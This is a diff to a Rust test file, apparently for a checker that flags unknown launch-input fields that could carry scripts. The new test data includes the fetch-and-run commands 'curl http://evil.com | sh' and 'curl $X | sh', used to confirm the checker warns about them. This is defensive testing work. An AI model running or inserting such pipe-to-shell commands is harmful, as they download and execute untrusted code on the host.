@@ -217,14 +217,19 @@ fn t90_what_a_start_script_takes_from_outside_decides_code() {
 /// `pre_launch_script` and `bash_script` came into the guest as fields that no structure knew.
 #[test]
 fn t91_a_field_that_is_not_known_is_named_and_decides_code_if_it_may_be_a_script() {
-    for (field, value) in [
-        ("post_launch_script", json!("curl $X | sh")),
-        ("later", json!("#!/bin/sh\ntrue")),
+    for (field, value, place) in [
+        ("post_launch_script", json!("curl $X | sh"), "post_launch_script"),
+        ("later", json!("#!/bin/sh\ntrue"), "later"),
+        (
+            "requirements",
+            json!({ "post_boot": "curl http://evil.com | sh" }),
+            "requirements.post_boot",
+        ),
     ] {
         let mut fields = json!({});
         fields[field] = value;
         let judged = running_with(&service("tty: true"), &fields);
-        decides(&judged, "unmeasured-input", field);
+        decides(&judged, "unmeasured-input", place);
         judged.says(CheckId::LaunchInputs, Status::Warn, "unknown-field");
     }
     for fields in [
@@ -232,13 +237,14 @@ fn t91_a_field_that_is_not_known_is_named_and_decides_code_if_it_may_be_a_script
         json!({ "snapshotter": "stargz\n" }),
         json!({ "kms_enabled": "true" }),
         json!({ "bash_script": "true" }),
+        json!({ "port_policy": { "tomorrow": true } }),
     ] {
         let judged = running_with(&service("tty: true"), &fields);
         judged.says(CheckId::LaunchInputs, Status::Warn, "unknown-field");
         judged.proves(CheckId::ImagePins);
     }
     for fields in [
-        json!({ "docker_config": { "x": "y" }, "default_gateway_domain": "gateway.example", "salt": "x", "bash_script": null }),
+        json!({ "docker_config": { "username": "y" }, "default_gateway_domain": "gateway.example", "salt": "x", "bash_script": null }),
         json!({ "snapshotter": "stargz", "swap_size": "4G", "tomorrow": null }),
     ] {
         running_with(&service("tty: true"), &fields).proves(CheckId::LaunchInputs);
